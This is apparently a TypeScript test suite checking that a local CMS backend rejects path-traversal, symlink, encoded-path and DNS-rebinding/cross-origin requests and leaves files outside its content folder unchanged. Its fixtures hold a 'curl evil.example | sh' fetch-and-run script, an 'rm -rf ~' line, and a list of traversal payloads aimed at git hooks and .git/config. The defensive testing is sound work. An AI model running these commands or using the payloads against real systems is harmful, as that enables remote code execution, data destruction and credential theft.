/**
 * The local CMS backend sees only the content folder. npm start's backend (src/cms-local) is sent the requests an
 * attacker would send, from a page the editor visits (DNS rebinding, cross-site) or straight to the port: writing
 * git hooks, source files or package.json through `..`, absolute, encoded and symlinked paths, reading .git/config.
 * Every one is refused, in Vietnamese, and the file system outside the content folder is byte-for-byte unchanged.
 * Legitimate reads and writes inside the content folder still work.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { request } from 'node:http';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { startDecapServer, type DecapServer } from '../helpers/decap';
import { fixtureSite } from '../helpers/build';

const PORT = 8193;
const SITE_PORT = 4321;
const SECRET = 'token-bi-mat-khong-duoc-lo';
const LOCAL_ORIGIN = `http://127.0.0.1:${SITE_PORT}`;

let project: string;
let content: string;
let server: DecapServer;
let before: Map<string, string>;
let contentBefore: Map<string, string>;

/** Every file under dir except the content folder, with a hash of its bytes (symlinks by their target). */
function snapshot(dir: string, skip: string, files = new Map<string, string>()): Map<string, string> {
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (path === skip) continue;
    if (entry.isDirectory()) snapshot(path, skip, files);
    else
      files.set(
        relative(project, path),
        entry.isSymbolicLink() ? 'link' : createHash('sha256').update(readFileSync(path)).digest('hex'),
      );
  }
  return files;
}

/** Sends one request with exactly these headers (Host included), as any client on the network path could. */
function send(
  body: unknown,
  headers: Record<string, string> = {},
  method = 'POST',
): Promise<{ status: number; text: string; headers: Record<string, unknown> }> {
  const payload = body === undefined ? '' : JSON.stringify(body);
  return new Promise((done, fail) => {
    const req = request(
      {
        host: '127.0.0.1',
        port: PORT,
        path: '/api/v1',
        method,
        headers: { Host: `127.0.0.1:${PORT}`, 'Content-Type': 'application/json', ...headers },
      },
      (res) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk) => (text += chunk));
        res.on('end', () => done({ status: res.statusCode!, text, headers: res.headers }));
      },
    );
    req.on('error', fail);
    req.end(payload);
  });
}

const entry = (path: string, extra: object = {}) => ({
  action: 'persistEntry',
  params: {
    branch: 'main',
    entry: { slug: 'x', path, raw: `---\ntitle: ${SECRET}\n---\nrm -rf ~\n`, ...extra },
    assets: [],
    options: { collectionName: 'articles', commitMessage: 'x', useWorkflow: false, status: 'draft' },
  },
});
const media = (path: string) => ({
  action: 'persistMedia',
  params: {
    branch: 'main',
    asset: { path, content: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n').toString('base64'), encoding: 'base64' },
    options: { commitMessage: 'x' },
  },
});
const read = (action: string, params: object) => ({ action, params: { branch: 'main', ...params } });

beforeAll(async () => {
  project = mkdtempSync(join(tmpdir(), 'decap-sandbox-'));
  // A project as npm start sees it: git metadata, source, package.json, and the content folder inside.
  mkdirSync(join(project, '.git/hooks'), { recursive: true });
  writeFileSync(
    join(project, '.git/config'),
    `[remote "origin"]\n  url = https://ci:${SECRET}@git.example/xa/portal.git\n`,
  );
  mkdirSync(join(project, 'src/pages'), { recursive: true });
  writeFileSync(join(project, 'src/pages/index.astro'), '---\n---\n<p>trang</p>\n');
  writeFileSync(join(project, 'package.json'), '{"name":"portal","scripts":{}}\n');
  mkdirSync(join(project, 'outside'));
  writeFileSync(join(project, 'outside/secret.txt'), SECRET);
  content = join(project, 'content');
  cpSync(fixtureSite('dien-bien'), content, { recursive: true });
  // A commune's content folder is often a git working copy of its own: its .git is inside the content folder.
  mkdirSync(join(content, '.git/hooks'), { recursive: true });
  writeFileSync(join(content, '.git/config'), `[core]\n  sshCommand = ${SECRET}\n`);
  // Symlinks planted inside the content folder (by a commit or an archive), pointing out of it.
  symlinkSync(join(project, 'outside'), join(content, 'linked'));
  symlinkSync(join(project, 'src'), join(content, 'articles/src-link'));
  mkdirSync(join(content, 'media'), { recursive: true });
  before = snapshot(project, content);
  contentBefore = snapshot(content, '');
  server = await startDecapServer(content, PORT, { sitePort: SITE_PORT });
});

afterAll(async () => {
  await server?.stop();
  if (project) rmSync(project, { recursive: true, force: true });
});

const abs = () => join(project, 'src/pages/x.astro');

/** Attacks through paths, each sent with the local site's own Origin and Host: only the path guard stands in the way. */
const pathAttacks: [string, () => unknown][] = [
  ['persistEntry ../.git/hooks/pre-commit', () => entry('../.git/hooks/pre-commit')],
  ['persistEntry ../src/pages/x.astro', () => entry('../src/pages/x.astro')],
  ['persistEntry ../package.json', () => entry('../package.json')],
  ['persistEntry absolute path', () => entry(abs())],
  ['persistEntry %2e%2e/package.json', () => entry('%2e%2e/package.json')],
  ['persistEntry %2E%2E%2Fpackage.json', () => entry('articles/%2E%2E%2F%2E%2E%2Fpackage.json')],
  ['persistEntry articles/../../x', () => entry('articles/../../x.mdx')],
  ['persistEntry full-width dots', () => entry('\uff0e\uff0e/package.json')],
  ['persistEntry backslashes', () => entry('articles\\..\\..\\package.json')],
  ['persistEntry into a symlinked folder', () => entry('linked/x.mdx')],
  ['persistEntry through a symlink inside a collection', () => entry('articles/src-link/pages/x.astro')],
  ["persistEntry into the content repository's .git", () => entry('.git/hooks/pre-commit')],
  ['persistEntry a root file of the content folder', () => entry('package.json')],
  ['persistEntry renamed out (newPath)', () => entry('articles/x.mdx', { newPath: '../src/pages/x.astro' })],
  [
    'persistEntry with an asset outside',
    () => ({
      ...entry('articles/x.mdx'),
      params: {
        ...entry('articles/x.mdx').params,
        assets: [{ path: '../.git/hooks/post-checkout', content: 'eA==', encoding: 'base64' }],
      },
    }),
  ],
  ['persistMedia ../.git/hooks/pre-commit', () => media('../.git/hooks/pre-commit')],
  ['persistMedia media/../../src/x.js', () => media('media/../../src/x.js')],
  ['persistMedia absolute path', () => media(abs())],
  ['persistMedia into a symlinked folder', () => media('linked/x.png')],
  ['getEntry ../.git/config', () => read('getEntry', { path: '../.git/config' })],
  ['getEntry .git/config of the content repository', () => read('getEntry', { path: '.git/config' })],
  ['getEntry through a symlink', () => read('getEntry', { path: 'linked/secret.txt' })],
  ['getEntry absolute path', () => read('getEntry', { path: join(project, '.git/config') })],
  ['entriesByFiles ../.git/config', () => read('entriesByFiles', { files: [{ path: '../.git/config', label: 'x' }] })],
  ['entriesByFolder ..', () => read('entriesByFolder', { folder: '..', extension: 'config', depth: 3 })],
  ['entriesByFolder .git', () => read('entriesByFolder', { folder: '.git', extension: '', depth: 3 })],
  ['getMedia ..', () => read('getMedia', { mediaFolder: '..' })],
  ['getMedia of a symlinked folder', () => read('getMedia', { mediaFolder: 'linked' })],
  ['getMediaFile ../package.json', () => read('getMediaFile', { path: '../package.json' })],
  ['getMediaFile %2e%2e/.git/config', () => read('getMediaFile', { path: '%2e%2e/.git/config' })],
  [
    'deleteFile ../package.json',
    () => ({
      action: 'deleteFile',
      params: { branch: 'main', path: '../package.json', options: { commitMessage: 'x' } },
    }),
  ],
  [
    'deleteFile absolute path',
    () => ({
      action: 'deleteFile',
      params: { branch: 'main', path: join(project, 'package.json'), options: { commitMessage: 'x' } },
    }),
  ],
  [
    'deleteFiles ../src/pages/index.astro',
    () => ({
      action: 'deleteFiles',
      params: {
        branch: 'main',
        paths: ['articles/khong-co.mdx', '../src/pages/index.astro'],
        options: { commitMessage: 'x' },
      },
    }),
  ],
  ['an action the local backend does not use', () => ({ action: 'unpublishedEntries', params: { branch: 'main' } })],
];

describe('the local CMS backend refuses paths outside the content folder', () => {
  it('is rooted at the content folder itself', async () => {
    const info = await send({ action: 'info' }, { Origin: LOCAL_ORIGIN });
    expect(info.status).toBe(200);
    expect(JSON.parse(info.text).repo).toBe('content');
  });

  it.each(pathAttacks)('%s: refused in Vietnamese, nothing leaked', async (_name, body) => {
    const response = await send(body(), { Origin: LOCAL_ORIGIN });
    expect(response.status).toBe(403);
    expect(JSON.parse(response.text).error).toMatch(/^Máy chủ CMS cục bộ (từ chối|không nhận)/);
    expect(response.text).not.toContain(SECRET);
    expect(response.text).not.toContain(Buffer.from(SECRET).toString('base64').slice(0, 12));
  });

  it('a symlinked upload in media/ is never read out', async () => {
    symlinkSync(join(project, '.git/config'), join(content, 'media/leak.png'));
    try {
      const response = await send(read('getMedia', { mediaFolder: 'media' }), { Origin: LOCAL_ORIGIN });
      expect(response.text).not.toContain(
        Buffer.from(readFileSync(join(project, '.git/config')))
          .toString('base64')
          .slice(0, 24),
      );
      const direct = await send(read('getMediaFile', { path: 'media/leak.png' }), { Origin: LOCAL_ORIGIN });
      expect(direct.status).toBe(403);
      expect(direct.text).not.toContain(SECRET);
    } finally {
      rmSync(join(content, 'media/leak.png'));
    }
  });
});

describe('the local CMS backend answers only its own loopback name and the local site', () => {
  const info = { action: 'info' };
  it.each([
    ['a foreign Host (DNS rebinding)', { Host: 'evil.example', Origin: 'http://evil.example' }],
    ['a foreign Host without Origin', { Host: 'evil.example' }],
    ['a Host that starts like the loopback address', { Host: `127.0.0.1.evil.example:${PORT}` }],
    ['the loopback address on another port', { Host: '127.0.0.1:80' }],
    ['the loopback address without port', { Host: '127.0.0.1' }],
    ['a foreign Origin with the right Host', { Origin: 'https://trang-la.example.com' }],
    ['a localhost page on another port', { Origin: 'http://127.0.0.1:3000' }],
    ['an opaque Origin (sandboxed frame, file:)', { Origin: 'null' }],
  ])('%s: 403 in Vietnamese', async (_name, headers) => {
    const response = await send(info, headers);
    expect(response.status).toBe(403);
    expect(JSON.parse(response.text).error).toMatch(/^Máy chủ CMS cục bộ từ chối yêu cầu/);
    expect(response.headers['access-control-allow-origin']).toBeUndefined();
  });

  it('refuses the write a rebinding page would send, and a cross-site preflight', async () => {
    const write = await send(entry('articles/bi-chen.mdx'), {
      Host: 'evil.example:8081',
      Origin: 'http://evil.example:8081',
    });
    expect(write.status).toBe(403);
    expect(existsSync(join(content, 'articles/bi-chen.mdx'))).toBe(false);
    const preflight = await send(
      undefined,
      { Origin: 'https://trang-la.example.com', 'Access-Control-Request-Method': 'POST' },
      'OPTIONS',
    );
    expect(preflight.status).toBe(403);
  });

  it('answers 127.0.0.1 and localhost on its port, and the local site (with CORS for it)', async () => {
    for (const host of [`127.0.0.1:${PORT}`, `localhost:${PORT}`, `LOCALHOST:${PORT}`])
      expect((await send(info, { Host: host })).status, host).toBe(200);
    for (const origin of [LOCAL_ORIGIN, `http://localhost:${SITE_PORT}`]) {
      const response = await send(info, { Origin: origin });
      expect(response.status, origin).toBe(200);
      expect(response.headers['access-control-allow-origin']).toBe(origin);
    }
  });
});

describe('editing inside the content folder still works', () => {
  it('writes, reads, uploads, lists and deletes inside the content folder', async () => {
    const saved = await send(entry('articles/bai-moi.mdx'), { Origin: LOCAL_ORIGIN });
    expect(saved.status, saved.text).toBe(200);
    expect(readFileSync(join(content, 'articles/bai-moi.mdx'), 'utf8')).toContain(SECRET);
    const got = await send(read('getEntry', { path: 'articles/bai-moi.mdx' }), { Origin: LOCAL_ORIGIN });
    expect(JSON.parse(got.text).file.path).toBe('articles/bai-moi.mdx');
    const uploaded = await send(media('media/anh-moi.png'), { Origin: LOCAL_ORIGIN });
    expect(uploaded.status, uploaded.text).toBe(200);
    expect(statSync(join(content, 'media/anh-moi.png')).size).toBeGreaterThan(0);
    const listed = await send(read('getMedia', { mediaFolder: 'media' }), { Origin: LOCAL_ORIGIN });
    expect((JSON.parse(listed.text) as { path: string }[]).map((m) => m.path)).toContain('media/anh-moi.png');
    const folder = await send(read('entriesByFolder', { folder: 'articles', extension: 'mdx', depth: 1 }), {
      Origin: LOCAL_ORIGIN,
    });
    expect((JSON.parse(folder.text) as { file: { path: string } }[]).map((e) => e.file.path)).toContain(
      'articles/bai-moi.mdx',
    );
    const deleted = await send(
      {
        action: 'deleteFile',
        params: { branch: 'main', path: 'articles/bai-moi.mdx', options: { commitMessage: 'x' } },
      },
      { Origin: LOCAL_ORIGIN },
    );
    expect(deleted.status).toBe(200);
    expect(existsSync(join(content, 'articles/bai-moi.mdx'))).toBe(false);
    const removed = await send(
      {
        action: 'deleteFiles',
        params: { branch: 'main', paths: ['media/anh-moi.png'], options: { commitMessage: 'x' } },
      },
      { Origin: LOCAL_ORIGIN },
    );
    expect(removed.status).toBe(200);
  });

  it('left every file outside the content folder untouched, and nothing stray inside it', () => {
    expect(snapshot(project, content)).toEqual(before);
    expect(snapshot(content, '')).toEqual(contentBefore);
    expect(readdirSync(join(project, '.git/hooks'))).toEqual([]);
    expect(readdirSync(join(content, '.git/hooks'))).toEqual([]);
  });
});
